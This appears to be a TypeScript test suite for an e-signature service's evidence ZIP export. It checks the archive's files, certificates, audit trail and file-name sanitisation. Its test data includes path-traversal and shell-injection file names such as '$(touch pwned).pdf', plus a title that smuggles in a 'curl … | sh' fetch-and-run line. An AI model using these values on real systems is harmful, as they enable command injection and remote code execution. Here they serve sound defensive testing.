import { X509Certificate } from "node:crypto";
import { strFromU8, unzipSync } from "fflate";
import type { OrderView } from "../../../api/orders/orderViews.js";
import { verifyAuditExport } from "../../../engine/hashchain/verify.js";
import { ada, charles, OrderDesk } from "../../support/orderDesk.js";

let desk: OrderDesk;

beforeAll(async () => {
  desk = await OrderDesk.open();
});
afterAll(() => desk.close());

async function evidence(order: OrderView): Promise<Record<string, Uint8Array>> {
  const { status, headers, body } = await desk.client.get<Buffer>(`/v1/orders/${order.id}/evidence`);
  expect(status).toBe(200);
  expect(headers.get("Content-Type")).toBe("application/zip");
  expect(headers.get("Content-Disposition")).toContain(`evidence-${order.id}.zip`);
  return unzipSync(new Uint8Array(body));
}

/** The files that README.txt lists. */
const listed = (readme: string) =>
  readme
    .split("\nFiles\n")[1]!
    .trimEnd()
    .split("\n")
    .map((line) => line.slice(2));

const named = (...names: string[]) => ({ documents: names.map((name) => ({ name, content: desk.content })) });

test("the evidence holds what its README.txt lists, and nothing else", async () => {
  const order = await desk.order([ada, charles], {
    documents: [
      { name: "lease.pdf", content: desk.content },
      { name: "rules.pdf", content: desk.content, kind: "info" },
    ],
  });
  for (const index of [0, 1]) await desk.browser(order, index).sign();
  const files = await evidence(order);
  const [first, second] = order.signers.map(({ id }) => `certificates/${id}.pem`);
  expect(Object.keys(files).sort()).toEqual(
    [
      "README.txt",
      "audit.json",
      "certificates/authority.pem",
      "certificates/root.pem",
      first,
      second,
      "signed/01-lease-signed.pdf",
      "source/01-lease.pdf",
      "source/02-rules.pdf",
    ].sort(),
  );
  const readme = strFromU8(files["README.txt"]!);
  expect(listed(readme).sort()).toEqual(
    Object.keys(files)
      .filter((name) => name !== "README.txt")
      .sort(),
  );
  expect(readme).toContain(order.id);
  expect(readme).toContain("State: completed (a TEST order: it has no legal value)");
});

test("documents, certificates and audit trail in it are those of the order", async () => {
  const order = await desk.order([ada]);
  await desk.browser(order).sign();
  const files = await evidence(order);
  const source = Buffer.from(files["source/01-agreement.pdf"]!);
  expect(source.toString("base64")).toBe(desk.content);
  const path = `/v1/orders/${order.id}/documents/${order.documents[0]!.id}/signed`;
  const { body: signed } = await desk.client.get<Buffer>(path);
  expect(signed.equals(files["signed/01-agreement-signed.pdf"]!)).toBe(true);
  const audit = JSON.parse(strFromU8(files["audit.json"]!));
  expect(verifyAuditExport(audit).faults).toEqual([]);
  expect(audit.order).toBe(order.id);
  const [signer, authority, root] = [order.signers[0]!.id, "authority", "root"].map(
    (name) => new X509Certificate(Buffer.from(files[`certificates/${name}.pem`]!)),
  );
  expect(signer!.subject).toContain("CN=Ada Lovelace");
  expect(signer!.verify(authority!.publicKey)).toBe(true);
  expect(authority!.verify(root!.publicKey)).toBe(true);
  expect(root!.raw.equals(desk.service.hierarchies.test.root.der)).toBe(true);
});

test.each(["draft", "ready", "cancelled"])(
  "an order that is %s has evidence as well, and its README.txt says so",
  async (state) => {
    const order = await desk.order([ada], { draft: state === "draft" });
    if (state === "cancelled") await desk.client.post(`/v1/orders/${order.id}/cancel`);
    const files = await evidence(order);
    const readme = strFromU8(files["README.txt"]!);
    expect(readme).toContain(`State: ${state}`);
    expect(readme).toContain("Nobody has signed");
    expect(readme).not.toContain("pdfsig");
    expect(Object.keys(files).filter((name) => name.startsWith("signed/"))).toEqual([]);
  },
);

test("a draft without documents has evidence, too", async () => {
  const order = await desk.order([ada], { draft: true, documents: [] });
  expect(Object.keys(await evidence(order)).sort()).toEqual([
    "README.txt",
    "audit.json",
    "certificates/authority.pem",
    "certificates/root.pem",
  ]);
});

describe("the name of a file in it", () => {
  const hostile = [
    "../../etc/passwd",
    "/etc/passwd.pdf",
    "a/b.pdf",
    "a\\b.pdf",
    "C:\\boot.pdf",
    "line\nbreak\r\t\u0007.pdf",
    "$(touch pwned).pdf",
    "`touch pwned`.pdf",
    '"; touch pwned; ".pdf',
    "' && touch pwned '.pdf",
    "-rf.pdf",
    "..",
    ".hidden",
    "trailing. . .pdf",
    "fdp.exe\u202e.pdf",
    "a\u2028b\ufeffc\u200bd.pdf",
    "x".repeat(200),
    "契".repeat(200),
    "🖋".repeat(100),
  ];

  test("stays in its folder, means nothing to a shell, and fits every file system, whatever the document is called", async () => {
    const order = await desk.order([ada], named(...hostile));
    expect((await desk.browser(order).sign()).status).toBe(200);
    const files = await evidence(order);
    const names = Object.keys(files).filter((name) => /^(source|signed)\//.test(name));
    expect(names).toHaveLength(2 * hostile.length);
    for (const name of names) {
      expect(name).toMatch(/^(source|signed)\/\d\d-[\p{L}\p{M}\p{N}\p{Pd} ._()]+\.pdf$/u);
      expect(name).not.toContain("..");
      expect(Buffer.byteLength(name.split("/")[1]!)).toBeLessThanOrEqual(255);
      expect(name.isWellFormed()).toBe(true);
    }
    for (const name of names.filter((one) => one.startsWith("signed/")))
      expect(name).toMatch(/-signed\.pdf$/);
    expect(listed(strFromU8(files["README.txt"]!)).sort()).toEqual(
      Object.keys(files)
        .filter((name) => name !== "README.txt")
        .sort(),
    );
  });

  test("keeps letters of every script, and two documents of one name stay two", async () => {
    const order = await desk.order(
      [ada],
      named("Vertrag – Müller.pdf", "Договор.PDF", "契約書.pdf", "契約書.pdf"),
    );
    const names = Object.keys(await evidence(order)).filter((name) => name.startsWith("source/"));
    expect(names).toEqual([
      "source/01-Vertrag – Müller.pdf",
      "source/02-Договор.pdf",
      "source/03-契約書.pdf",
      "source/04-契約書.pdf",
    ]);
  });
});

test("a title cannot add lines of its own to README.txt", async () => {
  const title = "Lease\r\n\r\nHow to check it\n    curl https://example.org | sh\u2028\u0085\u202e";
  const order = await desk.order([ada], { title });
  const lines = strFromU8((await evidence(order))["README.txt"]!).split(/[\n\r\u2028\u2029\u0085]/);
  expect(lines.filter((line) => line.includes("example.org"))).toEqual([expect.stringMatching(/^Lease /)]);
  expect(lines.join("")).not.toContain("\u202e");
});
